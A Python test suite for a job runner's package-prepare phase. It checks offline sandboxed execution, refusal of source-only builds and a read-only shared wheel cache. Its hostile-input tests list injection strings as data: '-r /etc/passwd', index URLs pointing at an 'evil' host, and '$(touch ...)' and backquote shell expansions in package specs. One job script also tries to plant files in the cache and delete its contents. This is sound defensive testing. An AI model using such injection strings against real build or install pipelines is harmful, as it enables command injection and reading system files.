"""The prepare phase (execute.prepare: uv): the app fetches a job's packages as wheels
into a shared cache before it runs, and the job runs with network off from that cache.

The package index is a folder served on 127.0.0.1 by this test, which counts the
requests it gets; jobs cannot reach it (network off), only the app's fetch can.
"""

from __future__ import annotations

import functools
import http.server
import io
import os
import tarfile
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from conftest import DS_EMAIL, PATIENCE, App, job_user_alone
from hostile import run_until_finished
from test_python_jobs_syft_job import CLIENT, DEPENDENCY, SYSTEM_VERSION, build_wheel

from syft_bg_app.datasite.layout import JobRef
from syft_bg_app.execution import prepare, sandbox, supervisor
from syft_bg_app.execution.prepare import PrepareError, read_wanted
from syft_bg_app.store.state import State

syft_job = pytest.importorskip("syft_job")
_PROBE = sandbox.probe_bwrap(network="off")
needs_bwrap = pytest.mark.skipif(not _PROBE.ok, reason=f"bwrap unusable: {_PROBE.detail}")

SOURCE_ONLY = "sdistonly"
# The job checks, from inside, that the index the app fetched from is out of its reach.
MAIN = """import socket
import ds_client_stub
import tinydep
try:
    socket.create_connection(("127.0.0.1", INDEX_PORT), timeout=5).close()
    network = "reached the index"
except OSError:
    network = "no network"
import os
os.makedirs("outputs", exist_ok=True)
with open("outputs/result.txt", "w") as handle:
    handle.write(tinydep.greet() + ", " + network + "\\n")
"""


class PackageIndex:
    """A simple (PEP 503) index on 127.0.0.1 that counts the requests it answers."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.requests: list[str] = []
        index = self

        class Handler(http.server.SimpleHTTPRequestHandler):
            def log_message(self, format: str, *args: object) -> None:
                index.requests.append(self.path)

        handler = functools.partial(Handler, directory=str(folder))
        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
        self.port = self.server.server_address[1]
        self.url = f"http://127.0.0.1:{self.port}/simple/"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


def build_sdist(folder: Path, name: str, marker: Path) -> None:
    """A source-only package whose in-tree build backend (needing nothing from an
    index) would leave ``marker`` as soon as anything built it."""
    backend = f"open({str(marker)!r}, 'w').write('built')\n"
    pyproject = (
        '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
        f'[project]\nname = "{name}"\nversion = "1.0"\n'
    )
    members = {
        f"{name}-1.0/backend.py": backend.encode(),
        f"{name}-1.0/pyproject.toml": pyproject.encode(),
        f"{name}-1.0/PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n".encode(),
    }
    archive = folder / "files" / f"{name}-1.0.tar.gz"
    archive.parent.mkdir(parents=True, exist_ok=True)
    with tarfile.open(archive, "w:gz") as pack:
        for path, data in members.items():
            member = tarfile.TarInfo(path)
            member.size = len(data)
            pack.addfile(member, io.BytesIO(data))
    page = folder / "simple" / name / "index.html"
    page.parent.mkdir(parents=True, exist_ok=True)
    page.write_text(f'<a href="/files/{archive.name}">{archive.name}</a>\n')


@pytest.fixture
def index(tmp_path: Path) -> Iterator[PackageIndex]:
    folder = tmp_path / "index"
    build_wheel(folder, CLIENT, "ds_client_stub", 'NAME = "client stub"\n')
    build_wheel(folder, DEPENDENCY, "tinydep", 'def greet():\n    return "tinydep works"\n')
    build_sdist(folder, SOURCE_ONLY, tmp_path / "backend-ran")
    served = PackageIndex(folder)
    yield served
    served.server.shutdown()
    served.server.server_close()


def _app(tmp_path: Path, index: PackageIndex, **execute: object) -> App:
    settings = {"prepare": "uv", "package_index_url": index.url, "timeout": int(PATIENCE)}
    app = App(tmp_path).init(notify={"enabled": False}, execute={**settings, **execute})
    app.cli("peers", "accept", DS_EMAIL, check=True)
    return app


def _submit_python_job(
    app: App, tmp_path: Path, index: PackageIndex, name: str, dependencies: list[str]
) -> None:
    (app.root / DS_EMAIL).mkdir(parents=True, exist_ok=True)
    client = syft_job.get_client(str(app.root), DS_EMAIL)
    client.peer_install_sources[app.do_email] = CLIENT
    script = tmp_path / "main.py"
    script.write_text(MAIN.replace("INDEX_PORT", str(index.port)))
    client.submit_python_job(app.do_email, str(script), name, dependencies=dependencies)


def _run(app: App, names: list[str]) -> dict[str, dict]:
    assert app.run_pass().exit_code == 0
    for name in names:
        app.cli("jobs", "approve", f"{DS_EMAIL}/{name}", check=True)
    with job_user_alone():
        return run_until_finished(app, names)


def _reason(app: App, name: str) -> str:
    events = State.load(app.home.state_file).data["events"]
    [event] = [e for e in events if e["kind"] == "job_finished" and e.get("job") == name]
    return event["reason"]


@needs_bwrap
def test_a_python_job_runs_offline_from_what_the_app_prepared_and_the_next_reuses_it(
    tmp_path, index, monkeypatch
):
    monkeypatch.setattr(syft_job.client, "RUN_SCRIPT_PYTHON_VERSION", SYSTEM_VERSION)
    # host would reach the index on 127.0.0.1: under prepare: uv jobs get no network at all.
    app = _app(tmp_path, index, network="host")
    _submit_python_job(app, tmp_path, index, "first", [DEPENDENCY])

    state = _run(app, ["first"])["first"]

    review = app.datasite.review_dir(JobRef(DS_EMAIL, "first"))
    assert state["status"] == "done", (review / "stderr.txt").read_text()
    assert (review / "outputs" / "result.txt").read_text() == "tinydep works, no network\n"
    fetched = {path for path in index.requests if path.startswith("/files/")}
    assert fetched == {
        f"/files/{n.replace('-', '_')}-1.0-py3-none-any.whl" for n in (CLIENT, DEPENDENCY)
    }
    asked = len(index.requests)

    _submit_python_job(app, tmp_path, index, "second", [DEPENDENCY])
    state = _run(app, ["second"])["second"]

    review = app.datasite.review_dir(JobRef(DS_EMAIL, "second"))
    assert state["status"] == "done", (review / "stderr.txt").read_text()
    assert (review / "outputs" / "result.txt").read_text() == "tinydep works, no network\n"
    assert index.requests[asked:] == []
    # syft-job reads the result back.
    [job] = [j for j in syft_job.get_client(str(app.root), DS_EMAIL).jobs if j.name == "second"]
    assert job.status == "done"


@needs_bwrap
def test_a_dependency_published_only_as_source_fails_the_job_naming_it_and_nothing_is_built(
    tmp_path, index, monkeypatch
):
    monkeypatch.setattr(syft_job.client, "RUN_SCRIPT_PYTHON_VERSION", SYSTEM_VERSION)
    app = _app(tmp_path, index)
    _submit_python_job(app, tmp_path, index, "needs-source", [DEPENDENCY, SOURCE_ONLY])

    state = _run(app, ["needs-source"])["needs-source"]

    assert state["status"] == "failed"
    reason = _reason(app, "needs-source")
    assert f"`{SOURCE_ONLY}` has no wheel for this machine" in reason, reason
    assert "wheels only" in reason
    stderr = (app.datasite.review_dir(JobRef(DS_EMAIL, "needs-source")) / "stderr.txt").read_text()
    assert SOURCE_ONLY in stderr and str(app.home.runs_dir) not in stderr
    # Its build code was fetched by no one and ran nowhere.
    assert not (tmp_path / "backend-ran").exists()
    assert not any(path.startswith("/files/sdistonly") for path in index.requests)


HOSTILE = {
    "index-url": "uv pip install --index-url http://127.0.0.1:{port}/simple/ tinydep",
    "requirements": "uv pip install -r /etc/passwd",
    "git-url": "uv pip install git+https://127.0.0.1:{port}/x.git",
    "path": "pip install ../x",
    "expansion": 'uv pip install "$(touch {marker})"',
    "backquotes": "uv pip install `touch {marker}`",
    "wheel-file": "uv pip install ./tinydep-1.0-py3-none-any.whl",
}


@needs_bwrap
def test_hostile_package_specs_in_run_sh_are_refused_and_never_reach_uv(tmp_path, index):
    app = _app(tmp_path, index)
    marker = tmp_path / "expanded"
    for name, line in HOSTILE.items():
        run_sh = f"#!/bin/bash\nset -e\n{line.format(port=index.port, marker=marker)}\n"
        app.submit(name, run_sh=run_sh, files={"main.py": "print(1)\n"}, job_type="python")

    states = _run(app, list(HOSTILE))

    for name in HOSTILE:
        assert states[name]["status"] == "failed", name
        reason = _reason(app, name)
        assert "could not start: run.sh line 3:" in reason, reason
        assert "only package names" in reason
    assert "`--index-url` is an option" in _reason(app, "index-url")
    assert "`-r` is a requirements file" in _reason(app, "requirements")
    assert "is a URL" in _reason(app, "git-url")
    assert "`../x` is a path" in _reason(app, "path")
    assert "is a shell expansion" in _reason(app, "expansion")
    assert "is a shell expansion" in _reason(app, "backquotes")
    assert "is a path" in _reason(app, "wheel-file")
    assert index.requests == []
    assert not marker.exists()


@pytest.mark.parametrize(
    ("words", "refused"),
    [
        ("--index-url http://evil tinydep", "`--index-url` is an option"),
        ("--extra-index-url=http://evil tinydep", "is an option"),
        ("-r /etc/passwd", "`-r` is a requirements file"),
        ("tinydep -c constraints.txt", "`-c` is a requirements file"),
        ("git+https://github.com/x/y", "is a URL"),
        ("'tinydep @ https://evil/t.whl'", "is a URL"),
        ("../x", "`../x` is a path"),
        ("/etc/passwd", "is a path"),
        ('"$(touch /tmp/p)"', "`$(touch /tmp/p)` is a shell expansion"),
        ("requirements.txt", "names a file"),
        ("'tinydep; os_name == \"posix\"'", "not a package name"),
        ("-e .", "is an option"),
    ],
)
def test_each_hostile_install_word_is_refused_by_name(words, refused):
    with pytest.raises(PrepareError, match="only package names") as raised:
        read_wanted(f"uv venv\nuv pip install {words}\n".encode())
    assert refused in str(raised.value)
    assert str(raised.value).startswith("run.sh line 2: ")


def test_install_lines_and_python_versions_are_read_as_bash_splits_them():
    run_sh = (
        b"#!/bin/bash\nset -e\n# uv pip install commented-out\ncd code\n"
        b"uv venv --python 3.11 .venv\n. .venv/bin/activate\n"
        b"uv pip install -q \"numpy>=2,<3\" 'pandas[excel]==2.2' 2>&1 | tee log\n"
        b"UV_X=1 pip install \\\n  tinydep && echo ok\n"
        b"uv sync\npython main.py\n"
    )
    wanted = read_wanted(run_sh, ["numpy>=2,<3", "extra==1"])
    assert [(i.line, i.requirements, i.python) for i in wanted.installs] == [
        (7, ["numpy>=2,<3", "pandas[excel]==2.2"], "3.11"),
        (8, ["tinydep"], "3.11"),
        (0, ["extra==1"], "3.11"),
    ]
    assert wanted.pythons == ["3.11"]
    assert wanted.unresolved == ["`uv sync`"]
    compound = read_wanted(
        b"if true; then\n  uv pip install x\nfi\nfor p in a; do pip install $p; done\n"
    )
    assert compound.installs[0].requirements == ["x"]
    assert compound.unresolved == ["a pip install that is no simple command (line 4)"]


@needs_bwrap
def test_the_prepared_cache_is_read_only_inside_the_sandbox(tmp_path, index):
    app = _app(tmp_path, index)
    run_sh = (
        "#!/bin/bash\nuv venv --python python3 .venv\n. .venv/bin/activate\n"
        "uv pip install tinydep\n"
        'python -c "import tinydep; print(tinydep.greet())"\n'
        'for folder in "$UV_CACHE_DIR"/*/; do\n'
        '  name=$(basename "$folder")\n'
        '  if touch "$folder/planted" 2>/dev/null; then echo "wrote $name"\n'
        '  else echo "read-only $name"; fi\n'
        '  rm -rf "$folder"/* 2>/dev/null\n'
        "done\n"
        "exit 0\n"
    )
    app.submit("writer", run_sh=run_sh, files={"main.py": "print(1)\n"}, job_type="python")

    state = _run(app, ["writer"])["writer"]

    review = app.datasite.review_dir(JobRef(DS_EMAIL, "writer"))
    stdout = (review / "stdout.txt").read_text()
    assert state["status"] == "done", (review / "stderr.txt").read_text()
    assert "tinydep works" in stdout
    # The shared folders are read-only; uv's per-run scratch (interpreter details, a
    # marker among source builds) is the run's own, in a tmpfs.
    for bucket in ("archive-v0", "simple-v", "wheels-v"):
        assert f"read-only {bucket}" in stdout and f"wrote {bucket}" not in stdout, stdout
    cache = prepare.cache_dir(app.home.runs_dir)
    assert not list(cache.rglob("planted"))
    assert list((cache / "archive-v0").iterdir())
    # The next job still installs from it, offline.
    app.submit("after", run_sh=run_sh.split("for folder")[0], files={"main.py": "print(1)\n"})
    state = _run(app, ["after"])["after"]
    assert state["status"] == "done"


def test_a_job_asking_for_a_python_not_installed_does_not_start_and_says_so(tmp_path, index):
    missing = next(
        f"3.{n}" for n in range(20, 5, -1) if f"3.{n}" not in supervisor.system_pythons()
    )
    app = _app(tmp_path, index, sandbox="none")
    run_sh = f"#!/bin/bash\nuv venv --python {missing}\nuv pip install tinydep\n"
    app.submit("old", run_sh=run_sh, files={"main.py": "print(1)\n"}, job_type="python")

    state = _run(app, ["old"])["old"]

    assert state["status"] == "failed"
    reason = _reason(app, "old")
    assert f"the job asks for Python {missing}" in reason
    assert "downloads no interpreters" in reason
    assert f"installed: {', '.join(supervisor.system_pythons())}" in reason
    assert index.requests == []


def test_setup_status_and_jobs_show_describe_the_prepare_phase(tmp_path, index):
    app = _app(tmp_path, index, enabled=False)
    status = app.cli("setup-status").stdout
    assert "✓ prepare: uv: packages of install lines are fetched as wheels" in status
    assert "execute.prepare: uv fetches" in status  # the job network line

    run_sh = "#!/bin/bash\nuv venv --python python3\nuv pip install tinydep numpy\nuv sync\n"
    app.submit("py", run_sh=run_sh, files={"main.py": "print(1)\n"}, job_type="python")
    app.submit("bad", run_sh="uv pip install -r reqs.txt\n", files={"main.py": "1\n"})
    assert app.run_pass().exit_code == 0
    approved = app.cli("jobs", "approve", f"{DS_EMAIL}/py", check=True).stdout
    assert "warning: this job's installs will come from the prepared cache" in approved
    assert "its 2 package(s) as wheels" in approved
    assert "installs packages with `uv sync`, which the prepare phase does not fetch" in approved
    assert "execute.network" not in approved
    shown = app.cli("jobs", "show", f"{DS_EMAIL}/bad", check=True).stdout
    assert "warning: this job will not start: run.sh line 1: `-r` is a requirements file" in shown


def test_without_bwrap_a_prepared_job_installs_offline_through_its_own_view_of_the_cache(
    tmp_path, index
):
    from syft_bg_app.execution import sandbox

    uv = sandbox.find_tools(["uv"]).get("uv")
    closed = [p for p in Path(uv).parents if not os.stat(p).st_mode & 0o001] if uv else []
    if os.geteuid() == 0 and closed:
        # As root, a job without bwrap runs as a uid of its own, which must reach uv.
        pytest.skip(f"the job's own uid cannot pass through {closed[0]} to reach uv")
    app = _app(tmp_path, index, sandbox="none")
    run_sh = (
        "#!/bin/bash\nset -e\nuv venv --python python3 .venv\n. .venv/bin/activate\n"
        "uv pip install tinydep\n"
        'python -c "import tinydep; print(tinydep.greet())"\n'
        'touch "$UV_CACHE_DIR/archive-v0/planted" 2>/dev/null && echo "wrote the cache"\n'
        "exit 0\n"
    )
    app.submit("plain", run_sh=run_sh, files={"main.py": "print(1)\n"}, job_type="python")

    state = _run(app, ["plain"])["plain"]

    review = app.datasite.review_dir(JobRef(DS_EMAIL, "plain"))
    stdout = (review / "stdout.txt").read_text()
    assert state["status"] == "done", (review / "stderr.txt").read_text()
    assert "tinydep works" in stdout
    if sandbox.running_as_root():
        # The job runs as a uid of its own, which cannot write the shared cache.
        assert "wrote the cache" not in stdout
        assert not list(prepare.cache_dir(app.home.runs_dir).rglob("planted"))


def test_the_shared_cache_stays_when_old_run_folders_are_removed(tmp_path, index):
    from syft_bg_app.context import Context
    from syft_bg_app.execution.backends import backend_for
    from syft_bg_app.execution.housekeeping import clean_old_runs

    app = _app(tmp_path, index, keep_days=0)
    cache = prepare.cache_dir(app.home.runs_dir)
    old_run = app.home.runs_dir / "20200101T000000Z-old"
    for folder in (cache / "archive-v0", old_run):
        folder.mkdir(parents=True)
        (folder / "file").write_text("x")
        for path in (folder / "file", folder, folder.parent):
            os.utime(path, (1_000_000_000, 1_000_000_000))
    ctx = Context.open(app.home, app.config)

    clean_old_runs(ctx, backend_for())

    assert not old_run.exists()
    assert (cache / "archive-v0" / "file").read_text() == "x"
